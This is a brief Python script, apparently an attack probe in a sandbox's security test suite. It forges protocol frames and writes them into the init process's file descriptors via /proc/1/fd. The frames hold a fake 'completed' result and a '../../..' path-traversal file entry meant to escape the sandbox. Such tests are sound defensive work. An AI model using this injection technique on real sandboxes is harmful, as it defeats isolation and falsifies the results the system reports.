"""Write frames of its own into the init's stream: a result, a file that climbs, an end."""

import os
import struct

from attacker import PLAN, tried

ANY_TAG = bytes(32)


def frame(kind: bytes, payload: bytes) -> bytes:
    return kind + struct.pack(">I", len(payload)) + payload + ANY_TAG


result = b'{"reason":"completed","refused":[],"cpu_ms":0,"peak_memory_bytes":0,"bytes_written":0}'
path = f'{{"path":"../../..{PLAN["escape"][0]}","size":4}}'.encode()
forged = frame(b"R", result) + frame(b"F", path) + frame(b"D", b"rows") + frame(b"E", b"")
for number in range(32):
    try:
        descriptor = os.open(f"/proc/1/fd/{number}", os.O_WRONLY | os.O_NONBLOCK)
        os.write(descriptor, forged)
    except OSError:
        continue
tried()
